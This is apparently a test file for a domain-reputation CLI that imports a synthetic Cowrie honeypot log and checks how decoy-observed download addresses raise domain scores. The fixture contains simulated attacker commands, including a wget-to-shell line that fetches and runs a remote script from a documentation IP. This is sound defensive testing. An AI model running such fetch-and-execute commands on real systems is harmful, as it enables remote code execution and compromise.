import { mkdtempSync, readdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { caltrop, json, unprintable } from '../../../test/setup/commands.ts';

const folder = mkdtempSync(join(tmpdir(), 'caltrop-graph-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const data = join(folder, 'data');
const run = (...words: string[]) => caltrop(...words, '--data', data);

const edges = join(folder, 'edges.tsv');
const lines = [
  'domain\tip',
  'update.kitten-pictures.example\t203.0.113.9',
  'www.kitten-pictures.example\t203.0.113.9',
];
for (let n = 0; n < 60; n++) lines.push(`www.shop${n}.example\t198.51.100.${n}`);
lines.push('www.neighbour.example\t203.0.113.9');
writeFileSync(edges, `${lines.join('\n')}\n`);

const cowrie = join(folder, 'cowrie.json');
const event = (second: number, more: object) =>
  JSON.stringify({
    timestamp: new Date(Date.UTC(2026, 1, 1, 0, 0, second)).toISOString(),
    ...{ src_ip: '192.0.2.7', session: 'aa01', sensor: 'd', protocol: 'ssh' },
    ...more,
  });
writeFileSync(
  cowrie,
  `${[
    event(0, { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 }),
    event(1, { eventid: 'cowrie.login.success', username: 'root', password: 'x' }),
    event(2, { eventid: 'cowrie.command.input', input: 'cd /tmp; wget http://203.0.113.9/x.sh -O- | sh' }),
    event(3, { eventid: 'cowrie.command.input', input: 'curl http://payload.kitten-pictures.example/y' }),
    event(4, { eventid: 'cowrie.session.closed', duration_ms: 4_000 }),
  ].join('\n')}\n`,
);

interface Row {
  name: string;
  score: number;
}

it('ranks what was looked up by what decoys were told of, and says how it came to it', {
  timeout: 240_000,
}, async () => {
  expect((await run('import', '--format', 'edges', edges)).code).toBe(0);
  const before = json(await run('domains', 'rank', '--json', '--limit', '100')) as unknown as Row[];
  expect(before).toHaveLength(63);
  expect((await run('import', '--format', 'cowrie', cowrie)).code).toBe(0);
  const after = json(await run('domains', 'rank', '--json', '--limit', '100')) as unknown as Row[];
  const score = (rows: Row[], name: string) => rows.find((row) => row.name === name)!.score;
  // Names on the address that a decoy was told to fetch from rise; the others stay.
  expect(
    after
      .slice(0, 3)
      .map(({ name }) => name)
      .sort(),
  ).toEqual(['update.kitten-pictures.example', 'www.kitten-pictures.example', 'www.neighbour.example']);
  expect(score(after, 'www.neighbour.example')).toBeGreaterThan(score(before, 'www.neighbour.example') + 5);
  expect(Math.abs(score(after, 'www.shop7.example') - score(before, 'www.shop7.example'))).toBeLessThan(2);

  const [shown] = json(
    await run('domains', 'show', 'update.kitten-pictures.example', '--json'),
  ) as unknown as {
    score: number;
    base: number;
    reasons: { says: string; points: number }[];
    paths: { steps: string[] }[];
    without: { what: string; score: number };
  }[];
  const { reasons, base, paths, without } = shown!;
  expect(reasons.reduce((sum, { points }) => sum + points, base)).toBeCloseTo(shown!.score, 4);
  expect(reasons.some(({ says }) => says.includes('at a decoy'))).toBe(true);
  expect(paths.map(({ steps }) => steps)).toContainEqual(['203.0.113.9', 'update.kitten-pictures.example']);
  expect(without.score).toBeLessThan(shown!.score);
  const text = await run('domains', 'show', 'update.kitten-pictures.example');
  expect(text.out).toContain('203.0.113.9 → update.kitten-pictures.example');
  expect(text.out).not.toMatch(unprintable);
  expect((await run('domains', 'show', 'nobody.example')).code).toBe(1);
  // None is sure enough to be denied in DNS; the zone is whole nonetheless.
  const zone = await run('domains', 'export', '--format', 'rpz');
  expect(zone.out).toMatch(/\bSOA\b/);
  expect(zone.out).not.toContain('shop7');
  expect(zone.err).toContain('0 names exported');
  expect((await run('domains', 'export', '--format', 'fax')).code).toBe(64);
  // A score alone never denies.
  expect(
    json(await run('decisions', '--json')).filter((one) => JSON.stringify(one).includes('domain')),
  ).toEqual([]);
});

it('goes on with a graph that is damaged by making it anew', { timeout: 120_000 }, async () => {
  const graph = join(data, 'reputation', 'graph');
  for (const name of readdirSync(graph)) if (name.endsWith('.snapshot')) truncateSync(join(graph, name), 10);
  writeFileSync(join(graph, '00000009.snapshot'), 'none');
  const ran = await run('domains', 'rank', '--json');
  expect(ran.code).toBe(0);
  expect((await run('import', '--format', 'edges', edges)).code).toBe(0);
  expect(json(await run('domains', 'rank', '--json', '--limit', '100'))).toHaveLength(63);
});

it('hears lists as far as they are believed, and calls nothing new that they have named', {
  timeout: 120_000,
}, async () => {
  const list = join(folder, 'list.txt');
  writeFileSync(list, 'www.shop9.example\nnever.asked.example\n');
  const config = join(folder, 'caltrop.yaml');
  writeFileSync(config, `feeds:\n  lists:\n    - {name: hearsay, path: ${list}, format: plain}\n`);
  const before = json(await run('domains', 'rank', '--json', '--limit', '100')) as unknown as Row[];
  expect((await run('feeds', 'fetch', '--config', config)).code).toBe(0);
  const after = json(
    await run('domains', 'rank', '--json', '--limit', '100', '--config', config),
  ) as unknown as Row[];
  const score = (rows: Row[]) => rows.find(({ name }) => name === 'www.shop9.example')!.score;
  expect(score(after)).toBeGreaterThan(score(before) + 3);
  const [shown] = json(
    await run('domains', 'show', 'www.shop9.example', '--json', '--config', config),
  ) as unknown as {
    reasons: { says: string }[];
  }[];
  expect(shown!.reasons.some(({ says }) => says.includes('is on the list hearsay'))).toBe(true);
  expect(json(await run('domains', 'new', '--json', '--config', config))).toEqual([]);
});
